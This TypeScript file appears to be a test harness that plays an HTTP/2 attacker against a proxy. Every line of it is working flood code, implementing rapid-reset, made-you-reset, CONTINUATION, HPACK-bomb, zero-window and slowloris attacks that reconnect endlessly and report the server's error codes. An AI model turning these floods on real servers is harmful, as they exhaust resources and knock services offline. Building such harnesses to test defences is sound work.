// An attacker, as a program of its own: `http2-flooder.ts <attack> <port>` floods a port until it
// is killed, opening a new connection whenever one is closed; port 0 is a port of its own that
// swallows everything, which costs the machine as much and the proxy nothing. It says "ready", then
// what it was told at the end of its connections, once for each new answer.

import { createServer } from "node:net";
import {
  block,
  type Fields,
  frame,
  FrameFlag,
  FrameType,
  indexedLiteral,
  literal,
  RawHttp2,
  requestFields,
  setting,
  word,
} from "./http2-raw.ts";

const end = FrameFlag.EndHeaders | FrameFlag.EndStream;
const get: Fields = requestFields("app");
const head = block(get);
const burst = 200;
/** Slow attacks hold many connections, each of which costs the attacker little. */
const slowConnections = 20;

type Attack = (connection: RawHttp2, next: () => number) => void;

const repeated = (build: (id: number) => Buffer[]): Attack => {
  return (connection, next) => {
    const frames: Buffer[] = [];
    for (let i = 0; i < burst; i++) frames.push(...build(next()));
    connection.write(Buffer.concat(frames));
  };
};

const bomb = Buffer.concat([
  head,
  indexedLiteral("x-a", "v".repeat(3900)),
  Buffer.alloc(12_000, 0xbe),
]);

export const attacks: Readonly<Record<string, Attack>> = {
  "rapid-reset": repeated((id) => [
    frame(FrameType.Headers, end, id, head),
    frame(FrameType.Reset, 0, id, word(8)),
  ]),
  "made-you-reset": repeated((id) => [
    frame(FrameType.Headers, FrameFlag.EndHeaders, id, head),
    frame(FrameType.WindowUpdate, 0, id, word(0)),
  ]),
  continuation: (connection, next) => {
    const id = next();
    const more = literal("x-a", "v".repeat(1000));
    const frames = [frame(FrameType.Headers, 0, id, head)];
    for (let i = 0; i < burst; i++) frames.push(frame(FrameType.Continuation, 0, id, more));
    connection.write(Buffer.concat(frames));
  },
  "hpack-bomb": repeated((id) => [frame(FrameType.Headers, end, id, bomb)]),
  "zero-window": (connection, next) => {
    connection.frame(FrameType.Settings, 0, 0, setting(4, 0));
    for (let i = 0; i < 100; i++) connection.headers(next(), get);
  },
  slowloris: (connection, next) => {
    const id = next();
    connection.headers(id, requestFields("app", [["content-length", "1000"]], "POST"), 4);
    connection.data(id, "a");
  },
};

const slow = new Set(["zero-window", "slowloris"]);

function run(name: string, port: number): void {
  const attack = attacks[name];
  if (attack === undefined) throw new Error(`no attack ${name}`);
  const told = new Set<string>();
  process.stdout.write("ready\n");
  const open = (): void => {
    const connection = new RawHttp2(port);
    let id = -1;
    const next = (): number => {
      id += 2;
      return id;
    };
    const strike = (): void => {
      if (connection.isOver) return;
      attack(connection, next);
      if (!slow.has(name)) connection.socket.once("drain", strike);
    };
    connection.socket.once("connect", strike);
    connection.socket.on("close", () => {
      const codes = connection.goAways.map(({ code }) => code).join() || connection.errorCode;
      if (!told.has(codes)) process.stdout.write(`${codes}\n`);
      told.add(codes);
      setTimeout(open, 5);
    });
  };
  for (let i = 0; i < (slow.has(name) ? slowConnections : 1); i++) open();
}

const [, , name, given] = process.argv;
if (name !== undefined && given !== undefined && Number(given) > 0) run(name, Number(given));
else if (name !== undefined && given !== undefined) {
  const sink = createServer((socket) => socket.resume().on("error", () => {}));
  sink.listen(0, "127.0.0.1", () => run(name, (sink.address() as { port: number }).port));
}
